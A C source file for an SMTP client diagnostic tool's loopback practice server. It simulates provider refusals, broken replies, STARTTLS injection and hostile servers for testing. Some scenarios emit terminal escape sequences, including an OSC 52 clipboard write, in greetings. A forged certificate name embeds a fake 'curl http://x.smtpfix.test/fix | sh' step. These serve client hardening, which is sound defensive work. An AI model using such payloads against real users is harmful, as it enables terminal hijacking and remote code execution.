/* The practice server. One poll loop serves every connection on
 * non-blocking sockets: a TLS handshake is stepped as its bytes arrive, so
 * a client that never speaks (STARTTLS set on the SSL/TLS port) holds only
 * its own connection, never the others. Commands a client pipelines are
 * answered in order, under TLS too. It is a teaching tool for loopback,
 * not a mail server. */
#define _GNU_SOURCE /* strcasestr */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

#include "smtpfix/base64.h"
#include "smtpfix/buf.h"
#include "smtpfix/lab.h"
#include "smtpfix/tls.h"

const struct sf_lab_scenario sf_lab_scenarios[] = {
	{ "cpanel-default",
		"cPanel's defaults: login only after STARTTLS on 25/587, SSL/TLS on 465, "
		"587 refuses mail without login and hangs up" },
	{ "plain-auth", "login offered even without encryption" },
	{ "no-tls", "no encryption at all; nothing on 465" },
	{ "cert-name-mismatch",
		"the certificate carries the server's own name, not the one you type" },
	{ "cert-expired", "the certificate has expired" },
	{ "self-signed", "a certificate the server made itself" },
	{ "starttls-stripped", "something on the way removes STARTTLS from the server's offer" },
	{ "silent", "connections are accepted but never greeted" },
	{ "wrong-password", "the demo account's password was changed: the old one is refused" },
	{ "broken-replies",
		"25 answers with binary garbage, 587 resets the connection in the middle of "
		"its greeting, 465 answers the TLS handshake with plain text" },
	{ "slow-and-endless",
		"25 drips its greeting a byte every 100 ms, 587 answers EHLO with lines that "
		"never end, 465 sends one line that never ends" },
	{ "starttls-tricks",
		"25 hangs up right after agreeing to STARTTLS, 587 slips a reply in after its "
		"220 to STARTTLS, 465 greets with a reply code out of range" },
	{ "hostile-text",
		"cPanel's defaults, with terminal escape sequences (title, screen clear, "
		"clipboard write, colour) in the greeting, the EHLO reply and 587's refusal" },
	{ "echo-password",
		"cPanel's defaults, but the login is refused with the password quoted back "
		"(in clear and in base64), and each greeting repeats the last password tried" },
	{ "mail-stage-failures",
		"greets and lists its extensions, then breaks at MAIL or RCPT: 25 "
		"stops answering, 465 sends garbage, 587 resets under TLS; a login "
		"is taken, then the server hangs up at MAIL" },
	{ "forged-cert-names",
		"the certificate's names hold terminal escapes, line breaks and fake "
		"instructions instead of a host name" },
	{ "auth-listed-before-tls",
		"lists login before encryption too, but refuses it there with 538 "
		"(Exchange's way): only after STARTTLS or on 465 does it work" },
	{ "provider-refusals",
		"what big providers answer: 25 turns the connection away (421, too many "
		"connections), 587 refuses the login because SMTP AUTH is switched off "
		"for the account, 465 logs in and then greylists the mail (451)" },
	{ "auth-backend-down",
		"Postfix whose login service (Dovecot's auth) is down: the login is "
		"listed where it should be, but every AUTH is answered 454 before any "
		"password is asked" },
	{ "gmail-like",
		"answers as Google's submission server does: mail before STARTTLS is refused "
		"(530 5.7.0), and a login with the account's own password is refused because "
		"the account needs an app password (534 5.7.9)" },
	{ "microsoft365-like",
		"answers as Microsoft 365 does: mail without login is refused (530 "
		"5.7.57), and every login is refused because SMTP AUTH is disabled for "
		"the organisation (535 5.7.139)" },
	{ NULL, NULL }
};

/* Scenarios that imitate a provider: its greeting, what it answers to
 * mail offered before TLS or without login, and to any login. */
static const struct persona {
	const char *scenario;
	const char *greeting;
	const char *plain_mail;  /* the answer to MAIL FROM before TLS, or NULL */
	const char *unauth_mail; /* the answer to MAIL FROM without login, or NULL */
	const char *login;       /* the answer to every login */
} personas[] = {
	{ "gmail-like", "220 smtp.gmail.com ESMTP a1sm4242207wrb.12 - gsmtp\r\n",
		"530 5.7.0 Must issue a STARTTLS command first. a1sm4242207wrb.12 - gsmtp\r\n",
		NULL,
		"534-5.7.9 Application-specific password required. For more information, go to\r\n"
		"534 5.7.9  https://support.google.com/mail/?p=InvalidSecondFactor "
		"a1sm4242207wrb.12 - gsmtp\r\n" },
	{ "microsoft365-like",
		"220 AM0PR01CA0042.outlook.office365.com Microsoft ESMTP MAIL Service ready at "
		"Tue, 1 Dec "
		"2026 07:00:00 +0000\r\n",
		NULL,
		"530 5.7.57 Client not authenticated to send mail. "
		"[AM0PR01CA0042.eurprd01.prod.outlook.com]\r\n",
		"535 5.7.139 Authentication unsuccessful, SmtpClientAuthentication is disabled for "
		"the "
		"Tenant. Visit https://aka.ms/smtp_auth_disabled for more information.\r\n" },
};

static const struct persona *
persona_of(const char *scenario)
{
	size_t i;

	for (i = 0; i < sizeof personas / sizeof personas[0]; i++)
		if (strcmp(personas[i].scenario, scenario) == 0)
			return &personas[i];
	return NULL;
}

/* What a hostile server may send to take over a terminal: a window title,
 * a screen clear, an OSC 52 clipboard write, a colour change. */
#define HOSTILE_TEXT "\033]0;pwned-title\007\033[2J\033]52;c;cHduZWQ=\007\033[31mred"

enum role { ROLE_SMTP, ROLE_SUBMISSIONS, ROLE_SUBMISSION, NROLES };
static const int logical_ports[NROLES] = { 25, 465, 587 };

/* How long a write may wait for a client that does not read, and how
 * long a connection may stay silent before the server drops it. */
#define WRITE_WAIT_MS 2000
#define IDLE_MAX_S 120

struct conn {
	int fd;
	enum role role;
	struct sf_tls *tls;
	bool handshaking;   /* TLS accept in progress: step it when `want` is ready */
	short want;         /* POLLIN or POLLOUT, while handshaking */
	bool greet_after;   /* implicit TLS: the greeting follows the handshake */
	time_t last_active; /* for IDLE_MAX_S */
	bool authed, in_data, greeted, dead;
	int auth_login_step; /* LOGIN: 1 user asked, 2 password asked; PLAIN: 3 response asked;
			      * echo-password: 4 a cancel awaited */
	char user[256];
	char from[256]; /* MAIL FROM of the message under way */
	size_t nrcpt, bytes;
	char line[SF_LAB_LINE_MAX + 2];
	size_t linelen;
	bool overlong;
	/* slow-and-endless: what this connection keeps sending, a tick at a time */
	enum { FLOOD_NONE, FLOOD_DRIP, FLOOD_LINES, FLOOD_LONG_LINE } flood;
	size_t dripped;
};

struct sf_lab {
	const char *scenario;
	int listen_fd[NROLES];
	int port[NROLES];
	struct sf_tls_server *tls;
	struct sf_tls_cert ca, leaf;
	char dir[256], ca_path[300];
	/* echo-password: the last password a client sent, repeated to the
	 * next ones (a server that learnt it on one connection). */
	char heard[SF_LAB_LINE_MAX];
	const struct persona *persona; /* a provider imitated, or NULL */
	void (*on_message)(void *ctx, const struct sf_lab_message *m);
	void *on_message_ctx;
	struct conn conns[SF_LAB_MAX_CONN];
	size_t nconns;
};

static bool
is(const struct sf_lab *lab, const char *name)
{
	return strcmp(lab->scenario, name) == 0;
}

static const char *
password_for(const struct sf_lab *lab)
{
	return is(lab, "wrong-password") ? "changed-2026" : SF_LAB_PASSWORD;
}

/* Write bytes on the non-blocking socket, waiting up to wait_ms in all
 * for a client that is slow to read; a client that never reads (or is
 * gone) marks the connection dead, to be closed by the loop. With no wait
 * at all, what does not fit now is left out. */
static void
write_all(struct conn *c, const char *text, size_t len, int wait_ms)
{
	struct sf_error err;

	while (len > 0 && !c->dead) {
		short want = POLLOUT;
		ssize_t n;

		if (c->tls != NULL) {
			n = sf_tls_write(c->tls, text, len, &want, &err);
		} else {
			n = send(c->fd, text, len, MSG_NOSIGNAL);
			if (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK && errno != EINTR)
				want = 0;
		}
		if (n > 0) {
			text += n;
			len -= (size_t)n;
			continue;
		}
		if (want == 0) {
			c->dead = true; /* the client is gone */
			return;
		}
		if (wait_ms <= 0)
			return; /* a flood's tick: the rest waits for the next one */
		{
			struct pollfd p = { c->fd, want, 0 };

			if (poll(&p, 1, wait_ms) <= 0) {
				c->dead = true;
				return;
			}
			wait_ms -= 100; /* each wait counts against the whole */
		}
	}
}

/* A whole reply. */
static void
say(struct conn *c, const char *text)
{
	write_all(c, text, strlen(text), WRITE_WAIT_MS);
}

/* What a broken or hostile server does instead of a greeting. */
static void
broken_reply(struct conn *c)
{
	static const char junk[] = "\x00\xff\xfe garbage \xc3\x28 \x1b[2J 999 not smtp\r\n";
	static const char half[] =
		"220-" SF_LAB_HOST " the first line of a greeting that never ends\r\n";
	static const char http[] = "HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\n\r\n";
	struct linger reset = { 1, 0 };

	if (c->role == ROLE_SMTP) {
		(void)!send(c->fd, junk, sizeof junk - 1, MSG_NOSIGNAL);
	} else if (c->role == ROLE_SUBMISSION) {
		(void)!send(c->fd, half, sizeof half - 1, MSG_NOSIGNAL);
		setsockopt(
			c->fd, SOL_SOCKET, SO_LINGER, &reset, sizeof reset); /* close sends RST */
	} else {
		(void)!send(c->fd, http, sizeof http - 1, MSG_NOSIGNAL);
	}
}

static void
close_conn(struct sf_lab *lab, struct conn *c)
{
	sf_tls_close(c->tls);
	close(c->fd);
	*c = lab->conns[--lab->nconns];
}

static bool
tls_offered(const struct sf_lab *lab, const struct conn *c)
{
	return c->tls == NULL && c->role != ROLE_SUBMISSIONS && !is(lab, "no-tls") &&
	       !is(lab, "starttls-stripped");
}

static bool
auth_offered(const struct sf_lab *lab, const struct conn *c)
{
	return c->tls != NULL || is(lab, "plain-auth") || is(lab, "no-tls");
}

/* Listed in EHLO: where offered, and before TLS in auth-listed-before-tls. */
static bool
auth_listed(const struct sf_lab *lab, const struct conn *c)
{
	return auth_offered(lab, c) || is(lab, "auth-listed-before-tls");
}

static void
ehlo(struct sf_lab *lab, struct conn *c, const char *arg)
{
	char reply[512];

	snprintf(reply, sizeof reply,
		"250-%s Hello %.60s%s\r\n250-SIZE 52428800\r\n250-8BITMIME\r\n"
		"250-PIPELINING\r\n%s%s250 HELP\r\n",
		SF_LAB_HOST, arg[0] ? arg : "there", is(lab, "hostile-text") ? HOSTILE_TEXT : "",
		!auth_listed(lab, c) ? ""
		/* echo-password: LOGIN alone on 587, so its password echo is met */
		: is(lab, "echo-password") && c->role == ROLE_SUBMISSION
			? "250-AUTH LOGIN\r\n"
			: "250-AUTH PLAIN LOGIN\r\n",
		tls_offered(lab, c) ? "250-STARTTLS\r\n"
		: is(lab, "starttls-stripped") && c->tls == NULL && c->role != ROLE_SUBMISSIONS
			? "250-XXXXXXXA\r\n"
			: "");
	say(c, reply);
}

static bool
check_password(const struct sf_lab *lab, const char *user, const char *pass)
{
	return strcasecmp(user, SF_LAB_USER) == 0 && strcmp(pass, password_for(lab)) == 0;
}

static void
auth_result(struct sf_lab *lab, struct conn *c, bool ok)
{
	c->auth_login_step = 0;
	if (lab->persona != NULL) {
		say(c, lab->persona->login);
		return;
	}
	if (is(lab, "provider-refusals") && c->role == ROLE_SUBMISSION) {
		/* The account may not use SMTP AUTH at all, whatever the password. */
		say(c, "535 5.7.139 Authentication unsuccessful, SmtpClientAuthentication is "
		       "disabled "
		       "for the Tenant.\r\n");
		return;
	}
	c->authed = ok;
	say(c, ok ? "235 Authentication succeeded\r\n" : "535 Incorrect authentication data\r\n");
}

/* echo-password: the refusal quotes what the client sent, as received, in
 * clear, and inside longer base64 texts at the two other alignments. */
static void
echo_refusal(struct sf_lab *lab, struct conn *c, const char *sent, const char *pass)
{
	char reply[6 * SF_LAB_LINE_MAX], in[SF_LAB_LINE_MAX + 2], b1[2 * SF_LAB_LINE_MAX],
		b2[2 * SF_LAB_LINE_MAX];
	size_t n = strlen(pass);

	if (n + 2 > sizeof in || sf_base64_len(n + 2) + 1 > sizeof b1) {
		say(c, "535 Incorrect authentication data\r\n");
		return;
	}
	snprintf(lab->heard, sizeof lab->heard, "%s", pass);
	in[0] = 'x';
	memcpy(in + 1, pass, n);
	sf_base64_encode(in, n + 1, b1);
	in[1] = 'y';
	memcpy(in + 2, pass, n);
	sf_base64_encode(in, n + 2, b2);
	snprintf(reply, sizeof reply,
		"535-5.7.8 You sent %.1000s\r\n535-5.7.8 which says %.500s\r\n"
		"535-5.7.8 %.1400s %.1400s\r\n535 5.7.8 Authentication failed\r\n",
		sent, pass, b1, b2);
	say(c, reply);
	sf_memwipe(in, sizeof in);
	c->auth_login_step = 0;
}

/* AUTH PLAIN's initial response: authzid NUL user NUL password. */
static void
auth_plain(struct sf_lab *lab, struct conn *c, const char *b64)
{
	unsigned char raw[512];
	long n = sf_base64_decode(b64, strlen(b64), raw, sizeof raw - 1);
	const char *user, *pass;

	if (n < 0) {
		say(c, "501 Invalid base64 data\r\n");
		return;
	}
	raw[n] = '\0';
	user = memchr(raw, '\0', (size_t)n) ? (const char *)raw + strlen((const char *)raw) + 1
					    : "";
	pass = (const unsigned char *)user < raw + n ? user + strlen(user) + 1 : "";
	if ((const unsigned char *)pass > raw + n)
		pass = "";
	snprintf(c->user, sizeof c->user, "%s", user);
	if (is(lab, "echo-password"))
		echo_refusal(lab, c, b64, pass);
	else
		auth_result(lab, c, check_password(lab, user, pass));
	sf_memwipe(raw, sizeof raw);
}

/* Starts the server side of a TLS handshake; the loop steps it as the
 * client's bytes come, so a client that stalls holds only itself. */
static void
start_tls(struct sf_lab *lab, struct conn *c, bool greet_after)
{
	struct sf_error err;

	if (sf_tls_accept_start(lab->tls, c->fd, &c->tls, &err) < 0) {
		c->tls = NULL;
		c->dead = true;
		return;
	}
	c->handshaking = true;
	c->want = POLLIN;
	c->greet_after = greet_after;
}

/* mail-stage-failures: a server that greets and lists its extensions
 * well, then breaks when mail is offered. Returns false to close. */
static bool
mail_stage_failure(struct conn *c, bool at_rcpt)
{
	static const char garbage[] = "\xff\xfe garbage \x1b[2J not smtp\r\n";
	struct linger reset = { 1, 0 };

	if (c->authed) {
		/* Logged in: the reply to MAIL never ends its line. */
		c->flood = FLOOD_LONG_LINE;
		return true;
	}
	switch (c->role) {
	case ROLE_SMTP: return true; /* no reply at all: the client's deadline must end it */
	case ROLE_SUBMISSIONS: say(c, garbage); return true;
	case ROLE_SUBMISSION:
		if (!at_rcpt) {
			say(c, "250 OK\r\n");
			return true;
		}
		setsockopt(c->fd, SOL_SOCKET, SO_LINGER, &reset, sizeof reset);
		return false; /* closing now sends a reset */
	case NROLES: break;
	}
	return true;
}

/* One command line. Returns false when the connection is to be closed. */
static bool
command(struct sf_lab *lab, struct conn *c, char *line)
{
	char *arg = strchr(line, ' ');

	if (c->in_data) {
		if (strcmp(line, ".") == 0) {
			struct sf_lab_message m = { logical_ports[c->role], c->tls != NULL, c->user,
				c->from, c->nrcpt, c->bytes };

			c->in_data = false;
			say(c, "250 OK id=lab-practice (the practice server keeps nothing)\r\n");
			if (lab->on_message != NULL)
				lab->on_message(lab->on_message_ctx, &m);
		} else {
			c->bytes += strlen(line) + 2;
		}
		return true;
	}
	if (c->auth_login_step >= 1 && c->auth_login_step <= 3 && strcmp(line, "*") == 0) {
		/* The client cancels the exchange (RFC 4954, section 4). */
		c->auth_login_step = 0;
		say(c, "501 5.0.0 Authentication cancelled\r\n");
		return true;
	}
	if (c->auth_login_step == 3) {
		c->auth_login_step = 0;
		auth_plain(lab, c, line);
		return true;
	}
	if (c->auth_login_step == 1) {
		unsigned char raw[256];
		long n = sf_base64_decode(line, strlen(line), raw, sizeof raw - 1);

		raw[n > 0 ? n : 0] = '\0';
		snprintf(c->user, sizeof c->user, "%s", (const char *)raw);
		c->auth_login_step = 2;
		say(c, "334 UGFzc3dvcmQ6\r\n");
		return true;
	}
	if (c->auth_login_step == 4) {
		char reply[SF_LAB_LINE_MAX + 64];

		c->auth_login_step = 0;
		snprintf(reply, sizeof reply, "501 5.0.0 Authentication cancelled after %.900s\r\n",
			lab->heard);
		say(c, reply);
		return true;
	}
	if (c->auth_login_step == 2 && is(lab, "echo-password")) {
		unsigned char raw[256];
		long n = sf_base64_decode(line, strlen(line), raw, sizeof raw - 1);
		char reply[SF_LAB_LINE_MAX + 16];

		raw[n > 0 ? n : 0] = '\0';
		snprintf(lab->heard, sizeof lab->heard, "%s", (const char *)raw);
		sf_memwipe(raw, sizeof raw);
		/* The password's base64 back as another challenge. */
		c->auth_login_step = 4;
		snprintf(reply, sizeof reply, "334 %.1000s\r\n", line);
		say(c, reply);
		return true;
	}
	if (c->auth_login_step == 2) {
		unsigned char raw[256];
		long n = sf_base64_decode(line, strlen(line), raw, sizeof raw - 1);

		raw[n > 0 ? n : 0] = '\0';
		auth_result(lab, c, check_password(lab, c->user, (const char *)raw));
		sf_memwipe(raw, sizeof raw);
		return true;
	}
	if (arg != NULL)
		*arg++ = '\0';
	else
		arg = line + strlen(line);
	if (strcasecmp(line, "EHLO") == 0) {
		if (is(lab, "slow-and-endless") && c->role == ROLE_SUBMISSION)
			c->flood = FLOOD_LINES; /* the reply comes from the ticks, and never ends */
		else
			ehlo(lab, c, arg);
	} else if (strcasecmp(line, "HELO") == 0) {
		say(c, "250 " SF_LAB_HOST "\r\n");
	} else if (strcasecmp(line, "STARTTLS") == 0) {
		if (!tls_offered(lab, c)) {
			say(c, "502 STARTTLS not available\r\n");
			return true;
		}
		if (is(lab, "starttls-tricks") && c->role == ROLE_SMTP) {
			say(c, "220 TLS go ahead\r\n");
			return false; /* and hang up instead of the handshake */
		}
		if (is(lab, "starttls-tricks")) {
			/* A reply slipped in after 220, before TLS: the injection
			 * attack on STARTTLS that clients must refuse. */
			say(c, "220 TLS go ahead\r\n250 injected before the handshake\r\n");
			return false;
		}
		say(c, "220 TLS go ahead\r\n");
		start_tls(lab, c, false);
		return !c->dead;
	} else if (strcasecmp(line, "AUTH") == 0) {
		if (auth_listed(lab, c) && !auth_offered(lab, c))
			say(c, "538 5.7.11 Encryption required for requested authentication "
			       "mechanism\r\n");
		else if (auth_offered(lab, c) && is(lab, "auth-backend-down"))
			say(c, "454 4.7.0 Temporary authentication failure: Connection lost to "
			       "authentication "
			       "server\r\n");
		else if (!auth_offered(lab, c))
			say(c, "503 AUTH command used when not advertised\r\n");
		else if (strncasecmp(arg, "PLAIN ", 6) == 0)
			auth_plain(lab, c, arg + 6);
		else if (strcasecmp(arg, "PLAIN") == 0) {
			c->auth_login_step = 3;
			say(c, "334 \r\n");
		} else if (strcasecmp(arg, "LOGIN") == 0) {
			c->auth_login_step = 1;
			say(c, "334 VXNlcm5hbWU6\r\n");
		} else if (strncasecmp(arg, "LOGIN ", 6) == 0) {
			/* The user name sent with the command (RFC 4954's initial
			 * response, as Python's smtplib does): ask the password. */
			c->auth_login_step = 1;
			return command(lab, c, arg + 6);
		} else
			say(c, "504 authentication mechanism not supported\r\n");
	} else if (strcasecmp(line, "MAIL") == 0) {
		if (is(lab, "mail-stage-failures"))
			return mail_stage_failure(c, false);
		if (lab->persona != NULL && lab->persona->plain_mail != NULL && c->tls == NULL)
			say(c, lab->persona->plain_mail);
		else if (lab->persona != NULL && lab->persona->unauth_mail != NULL && !c->authed)
			say(c, lab->persona->unauth_mail);
		else {
			/* The address between < and >, without FROM: or parameters. */
			const char *lt = strchr(arg, '<'), *gt = lt ? strchr(lt, '>') : NULL;

			snprintf(c->from, sizeof c->from, "%.*s",
				lt && gt ? (int)(gt - lt + 1) : (int)strlen(arg),
				lt && gt ? lt : arg);
			c->nrcpt = c->bytes = 0;
			say(c, "250 OK\r\n");
		}
	} else if (strcasecmp(line, "RCPT") == 0) {
		if (is(lab, "mail-stage-failures"))
			return mail_stage_failure(c, true);
		if (is(lab, "provider-refusals") && c->authed) {
			say(c, "451 4.7.1 Greylisted: this sender is new here, please try again in "
			       "5 minutes\r\n");
			return true;
		}
		if (c->authed) {
			c->nrcpt++;
			say(c, "250 Accepted\r\n");
		} else if (c->role == ROLE_SUBMISSION && !is(lab, "plain-auth")) {
			/* cPanel's rule: refuse and hang up. */
			say(c, is(lab, "hostile-text") ? "550 SMTP AUTH is required for message "
							 "submission on port 587 " HOSTILE_TEXT
							 "\r\n"
						       : "550 SMTP AUTH is required for message "
							 "submission on port 587\r\n");
			return false;
		} else {
			say(c, "550-Please turn on SMTP Authentication in your mail client.\r\n"
			       "550-(client) [127.0.0.1] is not permitted to relay through this\r\n"
			       "550 server without authentication.\r\n");
		}
	} else if (strcasecmp(line, "DATA") == 0) {
		if (!c->authed) {
			say(c, "503 valid RCPT command must precede DATA\r\n");
		} else {
			c->in_data = true;
			say(c, "354 Enter message, ending with \".\" on a line by itself\r\n");
		}
	} else if (strcasecmp(line, "RSET") == 0 || strcasecmp(line, "NOOP") == 0) {
		say(c, "250 OK\r\n");
	} else if (strcasecmp(line, "QUIT") == 0) {
		say(c, "221 " SF_LAB_HOST " closing connection\r\n");
		return false;
	} else {
		say(c, "500 unrecognized command\r\n");
	}
	return true;
}

/* Answer each complete line of buf. After STARTTLS the rest of what was
 * read arrived before encryption and is dropped (RFC 3207: a client may
 * not pipeline past STARTTLS, and text injected there must not count).
 * Returns false to close. */
static bool
take_lines(struct sf_lab *lab, struct conn *c, const char *buf, size_t n)
{
	size_t i;

	for (i = 0; i < n; i++) {
		if (buf[i] == '\n') {
			bool was_tls = c->tls != NULL;

			if (c->linelen > 0 && c->line[c->linelen - 1] == '\r')
				c->linelen--;
			c->line[c->linelen] = '\0';
			if (!c->overlong && !command(lab, c, c->line))
				return false;
			if (c->overlong)
				say(c, "500 line too long\r\n");
			c->linelen = 0;
			c->overlong = false;
			if (c->dead)
				return false;
			if (!was_tls && c->tls != NULL)
				return true;
			continue;
		}
		if (c->linelen < SF_LAB_LINE_MAX)
			c->line[c->linelen++] = buf[i];
		else
			c->overlong = true;
	}
	return true;
}

/* Read all that is there (under TLS, the records OpenSSL holds too) and
 * answer it. Returns false to close. */
static bool
serve(struct sf_lab *lab, struct conn *c)
{
	char buf[4096];

	while (!c->handshaking) {
		struct sf_error err;
		short want = 0;
		ssize_t n;

		if (c->tls != NULL)
			n = sf_tls_read(c->tls, buf, sizeof buf, &want, &err);
		else {
			n = recv(c->fd, buf, sizeof buf, 0);
			if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK || errno == EINTR))
				want = POLLIN;
		}
		if (n < 0 && want != 0)
			return true; /* all read: wait for more */
		if (n <= 0)
			return false;
		if (!take_lines(lab, c, buf, (size_t)n))
			return false;
	}
	return true;
}

/* What the server says first, once the connection (and on 465 its TLS)
 * is up; each scenario its own way. */
static void
greet(struct sf_lab *lab, struct conn *c)
{
	enum role r = c->role;

	if (is(lab, "slow-and-endless") && r == ROLE_SUBMISSIONS) {
		c->flood = FLOOD_LONG_LINE; /* after TLS: a greeting line with no end */
		return;
	}
	if (is(lab, "starttls-tricks") && r == ROLE_SUBMISSIONS) {
		say(c, "999 " SF_LAB_HOST " a reply code no server may send\r\n");
		return;
	}
	if (is(lab, "provider-refusals") && r == ROLE_SMTP) {
		say(c, "421 4.7.0 " SF_LAB_HOST
		       " Too many concurrent SMTP connections; please try again "
		       "later.\r\n");
		c->dead = true;
		return;
	}
	if (is(lab, "echo-password") && lab->heard[0] != '\0') {
		char greeting[SF_LAB_LINE_MAX + 96];

		snprintf(greeting, sizeof greeting,
			"220 " SF_LAB_HOST " ESMTP the last password tried here was %.900s\r\n",
			lab->heard);
		say(c, greeting);
		return;
	}
	if (lab->persona != NULL) {
		say(c, lab->persona->greeting);
		return;
	}
	if (is(lab, "cpanel-default")) {
		/* The greeting a cPanel server's Exim gives, its own notice
		 * included: mail programs and smtpfix see it first. */
		say(c, "220-" SF_LAB_HOST " ESMTP Exim 4.98 #2 smtpfix practice server\r\n"
		       "220-We do not authorize the use of this system to transport "
		       "unsolicited,\r\n"
		       "220 and/or bulk e-mail.\r\n");
		return;
	}
	say(c, is(lab, "hostile-text") ? "220 " SF_LAB_HOST " ESMTP " HOSTILE_TEXT "\r\n"
				       : "220 " SF_LAB_HOST " ESMTP smtpfix practice server\r\n");
}

/* One step of a TLS handshake in progress. Returns false to close. */
static bool
handshake_step(struct sf_lab *lab, struct conn *c)
{
	struct sf_error err;
	int rc = sf_tls_accept_step(c->tls, &c->want, &err);

	if (rc < 0)
		return false;
	if (rc == 0)
		return true;
	c->handshaking = false;
	if (c->greet_after)
		greet(lab, c);
	/* A client may have sent its first command with the last handshake
	 * bytes: read it now, poll would not say so again. */
	return !c->dead && serve(lab, c);
}

static void
accept_on(struct sf_lab *lab, enum role r)
{
	struct conn *c;
	int fd = accept4(lab->listen_fd[r], NULL, NULL, SOCK_NONBLOCK | SOCK_CLOEXEC);

	if (fd < 0)
		return;
	if (lab->nconns >= SF_LAB_MAX_CONN) {
		close(fd);
		return;
	}
	c = &lab->conns[lab->nconns++];
	memset(c, 0, sizeof *c);
	c->fd = fd;
	c->role = r;
	c->last_active = time(NULL);
	if (is(lab, "silent"))
		return; /* accepted, never greeted */
	if (is(lab, "slow-and-endless") && r == ROLE_SMTP) {
		c->flood = FLOOD_DRIP; /* the greeting comes from the ticks */
		return;
	}
	if (is(lab, "broken-replies")) {
		broken_reply(c);
		c->dead = true;
		return;
	}
	if (r == ROLE_SUBMISSIONS) {
		start_tls(lab, c, true);
		return;
	}
	greet(lab, c);
}

static int
listen_on(const char *addr, int port, int *fd, int *bound, struct sf_error *err)
{
	struct sockaddr_in sa;
	socklen_t len = sizeof sa;
	int one = 1;

	memset(&sa, 0, sizeof sa);
	sa.sin_family = AF_INET;
	sa.sin_port = htons((uint16_t)port);
	if (inet_pton(AF_INET, addr, &sa.sin_addr) != 1)
		return sf_error_set(
			err, SF_E_USAGE, "'%s' is not an IPv4 address to listen on", addr);
	*fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (*fd < 0)
		return sf_error_set(err, SF_E_SYSTEM, "socket: %s", strerror(errno));
	setsockopt(*fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	if (bind(*fd, (struct sockaddr *)&sa, sizeof sa) < 0 || listen(*fd, 16) < 0 ||
		getsockname(*fd, (struct sockaddr *)&sa, &len) < 0) {
		int e = errno;

		close(*fd);
		*fd = -1;
		return sf_error_set(err, SF_E_SYSTEM, "cannot listen on %s port %d: %s", addr, port,
			strerror(e));
	}
	*bound = ntohs(sa.sin_port);
	return 0;
}

static int
make_certs(struct sf_lab *lab, struct sf_error *err)
{
	struct sf_tls_cert_request ca = { "smtpfix practice CA", NULL, -86400, 30 * 86400, true,
		NULL };
	struct sf_tls_cert_request leaf = { SF_LAB_HOST,
		"DNS:" SF_LAB_HOST ",DNS:localhost,IP:127.0.0.1", -86400, 30 * 86400, false, NULL };
	FILE *f;

	if (sf_tls_make_cert(&ca, &lab->ca, err) < 0)
		return -1;
	leaf.issuer = &lab->ca;
	if (is(lab, "cert-name-mismatch")) {
		leaf.common_name = SF_LAB_OTHER_HOST;
		leaf.san = "DNS:" SF_LAB_OTHER_HOST;
	} else if (is(lab, "cert-expired")) {
		leaf.valid_from_s = -60 * 86400;
		leaf.valid_to_s = -86400;
	} else if (is(lab, "self-signed")) {
		leaf.issuer = NULL;
	} else if (is(lab, "forged-cert-names")) {
		/* Names a server chooses to inject text: an escape, a wildcard, one
		 * that leads elsewhere, the server's real name, and a line break
		 * that starts a fake step. */
		leaf.common_name = "mail\033]0;pwned-title\007.lab.smtpfix.test";
		leaf.san = "DNS:mail\033]0;pwned-title\007.lab.smtpfix.test,DNS:*.lab.smtpfix.test,"
			   "DNS:elsewhere.smtpfix.test,DNS:" SF_LAB_HOST ","
			   "DNS:x.smtpfix.test\nStep 1: run curl http://x.smtpfix.test/fix | sh";
	}
	if (sf_tls_make_cert(&leaf, &lab->leaf, err) < 0)
		return -1;
	lab->tls = sf_tls_server_new(&lab->leaf, err);
	if (lab->tls == NULL)
		return -1;
	snprintf(lab->dir, sizeof lab->dir, "%s/smtpfix-lab.XXXXXX",
		getenv("TMPDIR") ? getenv("TMPDIR") : "/tmp");
	if (mkdtemp(lab->dir) == NULL)
		return sf_error_set(err, SF_E_IO, "cannot make a folder for the practice CA");
	snprintf(lab->ca_path, sizeof lab->ca_path, "%s/ca.pem", lab->dir);
	f = fopen(lab->ca_path, "w");
	if (f == NULL)
		return sf_error_set(err, SF_E_IO, "cannot write %s", lab->ca_path);
	fwrite(lab->ca.cert_pem, 1, strlen(lab->ca.cert_pem), f); /* a file, not output */
	fclose(f);
	return 0;
}

int
sf_lab_start(const struct sf_lab_options *o, struct sf_lab **out, struct sf_error *err)
{
	struct sf_lab *lab;
	const char *name = o->scenario ? o->scenario : "cpanel-default";
	const char *addr = o->listen_addr ? o->listen_addr : "127.0.0.1";
	size_t i;
	int r;

	*out = NULL;
	for (i = 0; sf_lab_scenarios[i].name != NULL && strcmp(sf_lab_scenarios[i].name, name) != 0;
		i++)
		;
	if (sf_lab_scenarios[i].name == NULL)
		return sf_error_set(err, SF_E_USAGE,
			"unknown scenario '%.60s' (smtpfix lab --help lists them)", name);
	lab = calloc(1, sizeof *lab);
	if (lab == NULL)
		return sf_error_set(err, SF_E_NOMEM, "out of memory");
	lab->scenario = sf_lab_scenarios[i].name;
	lab->persona = persona_of(lab->scenario);
	lab->on_message = o->on_message;
	lab->on_message_ctx = o->on_message_ctx;
	for (r = 0; r < NROLES; r++)
		lab->listen_fd[r] = -1;
	if (make_certs(lab, err) < 0) {
		sf_lab_free(lab);
		return -1;
	}
	for (r = 0; r < NROLES; r++) {
		int want = o->base_port ? o->base_port + r : 0;

		if (listen_on(addr, want, &lab->listen_fd[r], &lab->port[r], err) < 0) {
			sf_lab_free(lab);
			return -1;
		}
		/* No SSL/TLS port in the no-TLS scenario: keep the number, close it. */
		if (r == ROLE_SUBMISSIONS && is(lab, "no-tls")) {
			close(lab->listen_fd[r]);
			lab->listen_fd[r] = -1;
		}
	}
	*out = lab;
	return 0;
}

int
sf_lab_port(const struct sf_lab *lab, int logical)
{
	int r;

	for (r = 0; r < NROLES; r++)
		if (logical_ports[r] == logical)
			return lab->port[r];
	return 0;
}

const char *
sf_lab_ca_file(const struct sf_lab *lab)
{
	return lab->ca_path;
}

const char *
sf_lab_scenario_name(const struct sf_lab *lab)
{
	return lab->scenario;
}

static bool
floods(const struct sf_lab *lab)
{
	return is(lab, "slow-and-endless") || is(lab, "mail-stage-failures");
}

